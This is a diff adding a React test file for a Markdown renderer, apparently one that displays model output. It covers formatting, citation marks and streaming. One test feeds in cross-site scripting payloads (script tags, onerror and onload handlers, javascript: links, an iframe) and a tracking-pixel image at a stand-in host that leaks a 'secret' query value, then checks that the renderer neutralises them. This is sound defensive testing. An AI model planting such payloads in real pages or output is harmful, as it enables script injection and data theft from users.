@@ -1,0 +1,96 @@
+import { render, screen } from "@testing-library/react";
+import { describe, expect, it, vi } from "vitest";
+import { Markdown } from "./markdown";
+
+const HOSTILE = `
+<script>window.hacked = true</script>
+<img src="https://evil.example/a.png" onerror="window.hacked = true">
+<svg onload="window.hacked = true"><style>body { display: none }</style></svg>
+<iframe src="https://evil.example"></iframe>
+
+![beacon](https://evil.example/pixel.png?q=secret)
+
+[click](javascript:window.hacked=true) [data](data:text/html,x) [relative](/api/v1/chat/session)
+
+<a href="https://evil.example" style="position:fixed;inset:0" onclick="x()">cover</a>
+
+\`\`\`html
+<b onclick="x()">code</b>
+\`\`\`
+`;
+
+describe("Markdown", () => {
+  it("renders what models write", () => {
+    render(
+      <Markdown
+        text={"# Big\n\n**bold** and `code`\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |"}
+      />,
+    );
+
+    expect(screen.getByRole("heading", { level: 3, name: "Big" })).toBeInTheDocument();
+    expect(screen.getByText("bold").tagName).toBe("STRONG");
+    expect(screen.getByRole("cell", { name: "2" })).toBeInTheDocument();
+    expect(screen.getByRole("checkbox")).toBeDisabled();
+  });
+
+  it("runs, loads and styles nothing of hostile text", () => {
+    const { container } = render(<Markdown text={HOSTILE} />);
+
+    expect(container.querySelector("script, img, svg:not(.lucide), iframe, style")).toBeNull();
+    for (const element of container.querySelectorAll("*")) {
+      const names = element.getAttributeNames();
+      expect(names.filter((name) => name.startsWith("on") || name === "style")).toEqual([]);
+    }
+    const links = screen.getAllByRole("link");
+    expect(links.map((link) => link.getAttribute("href"))).toEqual([
+      "https://evil.example/pixel.png?q=secret",
+    ]);
+    expect(links[0]).toHaveAttribute("rel", "noreferrer noopener nofollow");
+    expect(screen.getByText('<b onclick="x()">code</b>')).toBeInTheDocument();
+  });
+
+  it("makes marks of the sources there are, outside code and links", () => {
+    render(
+      <Markdown
+        text={"A [1][2], b [3]. `x[1]` [link [1]](https://example.org)"}
+        citable={new Set([1, 2])}
+        renderMark={(n) => <button type="button">{`mark ${n}`}</button>}
+      />,
+    );
+
+    expect(screen.getAllByRole("button").map((button) => button.textContent)).toEqual([
+      "mark 1",
+      "mark 2",
+    ]);
+    expect(screen.getByText(/b \[3\]/)).toBeInTheDocument();
+    expect(screen.getByText("x[1]")).toBeInTheDocument();
+  });
+
+  it("closes what is half open only while the text still grows", () => {
+    const { rerender } = render(<Markdown text="so **bold" streaming />);
+    expect(screen.getByText("bold").tagName).toBe("STRONG");
+
+    rerender(<Markdown text="2 ** 3" />);
+    expect(screen.getByText("2 ** 3")).toBeInTheDocument();
+  });
+
+  it("does not render finished blocks again when text is added", () => {
+    const renderMark = vi.fn((n: number) => <sup>{n}</sup>);
+    const citable = new Set([1]);
+    const { rerender } = render(
+      <Markdown text={"One [1].\n\nTwo"} streaming citable={citable} renderMark={renderMark} />,
+    );
+    const calls = renderMark.mock.calls.length;
+    rerender(
+      <Markdown
+        text={"One [1].\n\nTwo, more"}
+        streaming
+        citable={citable}
+        renderMark={renderMark}
+      />,
+    );
+
+    expect(calls).toBeGreaterThan(0);
+    expect(renderMark).toHaveBeenCalledTimes(calls);
+  });
+});
